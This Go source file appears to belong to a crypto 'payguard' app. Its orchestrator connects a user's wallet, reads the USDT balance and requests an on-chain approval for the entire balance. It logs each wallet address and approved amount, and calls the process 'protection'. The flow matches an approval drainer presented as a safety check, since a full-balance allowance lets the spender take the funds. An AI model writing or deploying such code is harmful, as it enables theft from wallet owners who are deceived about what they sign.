package orchestrator

import (
	"context"
	"errors"
	"fmt"
	"strconv"
	"sync"
	"time"

	"go.uber.org/zap"

	"payguard/apps/payguard/internal/assets"
	"payguard/apps/payguard/internal/chain"
	"payguard/apps/payguard/internal/model"
	"payguard/apps/payguard/internal/store"
	"payguard/apps/payguard/internal/wallet"
)

// ErrBusy is returned when a check is triggered while another is still in
// flight. Overlapping triggers are rejected, not queued.
var ErrBusy = errors.New("a check is already in progress")

// Options are the tunable policy knobs of the flow.
type Options struct {
	BalanceRetries      int
	BalanceRetryDelay   time.Duration
	NoticeDuration      time.Duration
	ReceiptPollInterval time.Duration
}

func (o Options) withDefaults() Options {
	if o.BalanceRetries <= 0 {
		o.BalanceRetries = 3
	}
	if o.BalanceRetryDelay <= 0 {
		o.BalanceRetryDelay = time.Second
	}
	if o.NoticeDuration <= 0 {
		o.NoticeDuration = 2 * time.Second
	}
	if o.ReceiptPollInterval <= 0 {
		o.ReceiptPollInterval = 2 * time.Second
	}
	return o
}

// Orchestrator turns a single UI trigger into a verified, sufficient spending
// allowance: enforce chain, connect, read balances with retry, decide, run
// the approval transaction, and record its lifecycle.
type Orchestrator struct {
	connector *wallet.Connector
	chain     *chain.Client
	store     store.RecordStore
	logger    *zap.Logger
	opts      Options

	mu          sync.Mutex
	busy        bool
	state       Snapshot
	noticeTimer *time.Timer
}

func New(connector *wallet.Connector, chainClient *chain.Client, recordStore store.RecordStore, logger *zap.Logger, opts Options) *Orchestrator {
	o := &Orchestrator{
		connector: connector,
		chain:     chainClient,
		store:     recordStore,
		logger:    logger,
		opts:      opts.withDefaults(),
		state: Snapshot{
			WalletDetected: connector.Detected(),
			Phase:          PhaseIdle,
			NativeBalance:  "0",
			TokenBalance:   "0",
			Allowance:      "0",
		},
	}
	connector.OnInvalidate(o.invalidateCached)
	return o
}

// Snapshot returns a copy of the UI-facing state.
func (o *Orchestrator) Snapshot() Snapshot {
	o.mu.Lock()
	defer o.mu.Unlock()
	snapshot := o.state
	snapshot.Busy = o.busy
	return snapshot
}

// Check is the single entry point of the flow. One invocation runs the whole
// sequence to a terminal state; the returned error, if any, is always a
// *FlowError carrying a short pre-classified message.
func (o *Orchestrator) Check(ctx context.Context) error {
	o.mu.Lock()
	if o.busy {
		o.mu.Unlock()
		return classify(ErrBusy)
	}
	o.busy = true
	o.state.LastError = nil
	o.mu.Unlock()

	defer func() {
		o.mu.Lock()
		o.busy = false
		o.mu.Unlock()
	}()

	if err := o.run(ctx); err != nil {
		fe := classify(err)
		o.logger.Error("check flow failed",
			zap.String("category", string(fe.Category)),
			zap.Error(err))
		o.mu.Lock()
		o.state.LastError = fe
		o.state.Phase = PhaseSettled
		o.mu.Unlock()
		return fe
	}
	return nil
}

func (o *Orchestrator) run(ctx context.Context) error {
	// Chain correctness is re-validated on every invocation, never cached.
	o.setPhase(PhaseNetworkCheck)
	if err := o.connector.EnsureTargetChain(ctx); err != nil {
		return err
	}

	session := o.connector.Session()
	if session == nil {
		o.setPhase(PhaseConnecting)
		connected, err := o.connector.Connect(ctx)
		if err != nil {
			return err
		}
		// Defend against the provider reporting a stale success.
		if !o.connector.VerifyConnected(ctx) {
			return wallet.ErrNotVerified
		}
		session = connected
	} else if !o.connector.VerifyConnected(ctx) {
		o.setPhase(PhaseConnecting)
		reconnected, err := o.connector.Connect(ctx)
		if err != nil {
			return err
		}
		if !o.connector.VerifyConnected(ctx) {
			return wallet.ErrNotVerified
		}
		session = reconnected
	}
	o.mu.Lock()
	o.state.Session = session
	o.mu.Unlock()

	o.setPhase(PhaseBalanceCheck)
	tokenBalance, nativeBalance, err := o.readBalancesWithRetry(ctx, session.Address)
	if err != nil {
		return err
	}
	o.mu.Lock()
	o.state.TokenBalance = tokenBalance
	o.state.NativeBalance = nativeBalance
	o.mu.Unlock()

	if parseAmount(tokenBalance) <= 0 {
		// Nothing to protect. A deliberate short-circuit, not an error: no
		// approval is attempted and no pending record is written.
		o.postNotice("You have no USDT to approve")
		o.setPhase(PhaseSettled)
		return nil
	}

	allowance, err := o.chain.Allowance(ctx, session.Address)
	if err != nil {
		o.logger.Warn("allowance read failed, defaulting to 0", zap.Error(err))
	}
	o.mu.Lock()
	o.state.Allowance = allowance
	o.mu.Unlock()

	if Sufficient(tokenBalance, allowance) {
		o.mu.Lock()
		o.state.Approved = true
		o.state.Phase = PhaseSettled
		o.mu.Unlock()
		return nil
	}

	return o.approve(ctx, session.Address)
}

// readBalancesWithRetry reads token and native balances, accepting the first
// attempt whose token balance parses as a non-negative number. Exhausting the
// retries propagates the last attempt's error.
func (o *Orchestrator) readBalancesWithRetry(ctx context.Context, address string) (string, string, error) {
	attempts := o.opts.BalanceRetries
	var lastErr error
	for attempt := 1; attempt <= attempts; attempt++ {
		tokenBalance, tokenErr := o.chain.TokenBalance(ctx, address)
		nativeBalance, nativeErr := o.chain.NativeBalance(ctx, address)

		switch {
		case tokenErr != nil:
			lastErr = tokenErr
		case nativeErr != nil:
			lastErr = nativeErr
		default:
			if value, parseErr := strconv.ParseFloat(tokenBalance, 64); parseErr == nil && value >= 0 {
				return tokenBalance, nativeBalance, nil
			}
			lastErr = fmt.Errorf("unparseable token balance %q", tokenBalance)
		}

		o.logger.Warn("balance check attempt failed",
			zap.Int("attempt", attempt),
			zap.Error(lastErr))

		if attempt < attempts {
			select {
			case <-ctx.Done():
				return "0", "0", ctx.Err()
			case <-time.After(o.opts.BalanceRetryDelay):
			}
		}
	}
	return "0", "0", fmt.Errorf("%w after %d attempts: %w", errBalanceReadExhausted, attempts, lastErr)
}

func (o *Orchestrator) approve(ctx context.Context, address string) error {
	o.setPhase(PhaseApproving)

	// The amount to approve is the entire balance, re-derived at call time
	// from a fresh raw read, never from a cached value.
	rawBalance, err := o.chain.RawTokenBalance(ctx, address)
	if err != nil {
		return err
	}
	if rawBalance.Sign() == 0 {
		o.postNotice("You have no USDT to approve")
		o.setPhase(PhaseSettled)
		return nil
	}
	amount := chain.FormatUnits(rawBalance, assets.USDT.Decimals)

	// A failed pending write is logged but does not block the transaction.
	if _, err := o.store.Put(ctx, model.ApprovalRecord{
		WalletAddress:  address,
		ApprovalAmount: amount,
		Status:         model.StatusPending,
	}); err != nil {
		o.logger.Error("failed to save pending approval record", zap.Error(err))
	}

	hash, err := o.chain.Approve(ctx, address, rawBalance)
	if err != nil {
		o.recordFailure(ctx, address, err)
		return err
	}

	if _, err := o.chain.WaitMined(ctx, hash, o.opts.ReceiptPollInterval); err != nil {
		o.recordFailure(ctx, address, err)
		return err
	}

	if _, err := o.store.UpdateStatus(ctx, address, model.StatusSuccess, hash); err != nil {
		o.logger.Error("failed to record approval success", zap.Error(err))
	}

	// Refresh everything the terminal display state carries.
	allowance, err := o.chain.Allowance(ctx, address)
	if err != nil {
		o.logger.Warn("post-approval allowance read failed", zap.Error(err))
	}
	tokenBalance, _ := o.chain.TokenBalance(ctx, address)
	nativeBalance, _ := o.chain.NativeBalance(ctx, address)

	o.mu.Lock()
	o.state.Allowance = allowance
	o.state.TokenBalance = tokenBalance
	o.state.NativeBalance = nativeBalance
	o.state.Approved = Sufficient(tokenBalance, allowance)
	o.state.LastTx = &TxOutcome{
		Hash:    hash,
		Status:  model.StatusSuccess,
		Message: "Full USDT balance approved successfully!",
	}
	o.state.Phase = PhaseSettled
	o.mu.Unlock()

	o.logger.Info("approval confirmed",
		zap.String("address", address),
		zap.String("amount", amount),
		zap.String("tx_hash", hash))
	return nil
}

// recordFailure writes the failed status best-effort. Its own failure is
// logged and swallowed so it can never mask the transaction error.
func (o *Orchestrator) recordFailure(ctx context.Context, address string, cause error) {
	if _, err := o.store.UpdateStatus(ctx, address, model.StatusFailed, ""); err != nil {
		o.logger.Error("failed to record approval failure",
			zap.NamedError("update_error", err),
			zap.NamedError("cause", cause))
	}
	o.mu.Lock()
	o.state.LastTx = &TxOutcome{
		Status:  model.StatusFailed,
		Message: classify(cause).Message,
	}
	o.mu.Unlock()
}

func (o *Orchestrator) setPhase(phase Phase) {
	o.mu.Lock()
	o.state.Phase = phase
	o.mu.Unlock()
}

// postNotice shows a transient message and arms its auto-dismissal.
func (o *Orchestrator) postNotice(message string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.state.Notice = message
	if o.noticeTimer != nil {
		o.noticeTimer.Stop()
	}
	o.noticeTimer = time.AfterFunc(o.opts.NoticeDuration, func() {
		o.mu.Lock()
		o.state.Notice = ""
		o.mu.Unlock()
	})
}

// invalidateCached clears everything derived from the provider after a chain
// or account change; the next check starts from scratch.
func (o *Orchestrator) invalidateCached() {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.state.Session = nil
	o.state.NativeBalance = "0"
	o.state.TokenBalance = "0"
	o.state.Allowance = "0"
	o.state.Approved = false
}

// Sufficient applies the approval policy: a zero balance means there is
// nothing to protect, otherwise the allowance must cover the entire balance.
func Sufficient(balance, allowance string) bool {
	b := parseAmount(balance)
	if b == 0 {
		return true
	}
	return parseAmount(allowance) >= b
}

func parseAmount(value string) float64 {
	parsed, err := strconv.ParseFloat(value, 64)
	if err != nil {
		return 0
	}
	return parsed
}
